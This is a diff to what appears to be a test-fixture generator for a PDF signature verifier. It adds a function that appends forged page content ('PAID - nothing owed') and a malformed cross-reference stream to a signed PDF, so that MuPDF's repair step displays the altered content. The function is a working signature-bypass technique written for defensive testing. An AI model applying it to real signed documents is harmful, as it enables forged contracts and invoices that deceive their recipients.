@@ -7,6 +7,8 @@
  *
  * A recipe name says base + change, e.g. `classic/isa-redirect-content-object`. Node-only.
  */
+import { PdfDocument } from '../../packages/core/src/pdf/document';
+import { latin1Bytes } from '../../packages/core/src/pdf/objects';
 import { signPdf } from '../../packages/core/src/sign/sign-pdf';
 import {
   ISA_VARIANTS,
@@ -20,8 +22,10 @@ import {
   addDss,
   addPage,
   changeContentStream,
+  concat,
   emptySneakyField,
   fillTextField,
+  firstContentRef,
   isa,
   loadInput,
   loadSealPng,
@@ -40,6 +44,33 @@ import {
   type TestPki,
   type Tsa,
 } from '../verify/generator';
+
+/**
+ * Issue 14, class 5 (not yet in the generator): after signing, the page's content object written
+ * again right after a delimiter (`(x)5 0 obj`), then a cross-reference stream that declares 2^31
+ * entries but holds one row. MuPDF calls the xref broken, repairs the file by scanning for object
+ * headers, finds this one and shows the new content. Kept out of `buildCatalog` until the verifier
+ * rejects it (the render oracle would fail); the render oracle's control test uses it.
+ */
+export function delimitedHeaderUpdate(signed: Uint8Array, lead: '(x)' | '[]'): Uint8Array {
+  const doc = PdfDocument.load(signed);
+  const view = doc.latest;
+  const contentRef = firstContentRef(view, 0);
+  const evil = 'BT /F1 24 Tf 72 720 Td (Sidian fixture: PAID - nothing owed) Tj ET\n';
+  const evilObj = `${lead}${contentRef.num} 0 obj\n<< /Length ${evil.length} >>\nstream\n${evil}endstream\nendobj\n`;
+  const at = signed.length + evilObj.length;
+  const self = view.size;
+  const row = new Uint8Array(17);
+  row[0] = 1;
+  for (let k = 0; k < 8; k++) row[1 + k] = Math.floor(at / 2 ** (8 * (7 - k))) & 0xff;
+  const head = `${self} 0 obj\n<< /Type /XRef /Size ${self + 1} /W [1 8 8] /Index [0 2147483647] /Root ${view.rootRef.num} 0 R /Prev ${doc.startxref} /Length ${row.length} >>\nstream\n`;
+  return concat(
+    signed,
+    latin1Bytes(evilObj + head),
+    row,
+    latin1Bytes(`\nendstream\nendobj\nstartxref\n${at}\n%%EOF\n`),
+  );
+}
 
 export interface CatalogFile {
   /** Recipe: base/change. */
